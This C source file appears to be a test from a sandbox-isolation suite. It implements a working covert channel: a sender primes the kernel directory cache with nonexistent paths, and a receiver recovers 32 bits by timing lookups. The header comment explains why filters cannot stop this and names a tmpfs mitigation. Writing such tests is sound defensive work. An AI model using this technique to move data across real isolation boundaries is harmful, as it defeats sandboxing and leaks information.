/* Sends 32 bits in the names that the kernel remembers, as 136 does, and reads
 * them by the clock: the lookup of a name that is in the directory cache, even
 * of a file that does not exist, is several times faster than one for which the
 * directory has to be read. A filter cannot take the time out of a lookup. What
 * must stop it: copies are in a tmpfs, where no name is kept that is not there. */
#include "attack.h"
#include <stdint.h>
#include <time.h>

#define MESSAGE 0x5ac31e97u

static long lookup(const char *path)
{
	struct timespec begin, end;
	clock_gettime(CLOCK_MONOTONIC, &begin);
	access(path, F_OK);
	clock_gettime(CLOCK_MONOTONIC, &end);
	return (end.tv_sec - begin.tv_sec) * 1000000000 + end.tv_nsec - begin.tv_nsec;
}

int main(int argc, char **argv)
{
	uint32_t got = 0;
	long first_of_all = 0;
	int sends = argc > 1 && strcmp(argv[1], "send") == 0;
	for (int i = -8; i < 32; i++) { /* the first ones warm the way there */
		char path[64];
		/* Both know the time, so they know which names. */
		snprintf(path, sizeof path, "/usr/lib/judged-%ld-%d-%d", (long)time(NULL) / 30, i, i < 0 && !sends);
		if (sends && i >= 0 && (MESSAGE >> i & 1))
			access(path, F_OK);
		if (sends)
			continue;
		long first = lookup(path), again = lookup(path);
		for (int n = 0; n < 4; n++) {
			long once_more = lookup(path);
			again = once_more < again ? once_more : again;
		}
		first_of_all += first;
		if (i >= 0)
			got |= (uint32_t)(first < again * 5 / 2) << i;
	}
	if (sends)
		held("looked up the names of %08x", MESSAGE);
	if (got == MESSAGE)
		broke("received %08x through the directory cache", got);
	held("received %08x, %d bits wrong, %ld ns a lookup", got, __builtin_popcount(got ^ MESSAGE), first_of_all / 40);
}
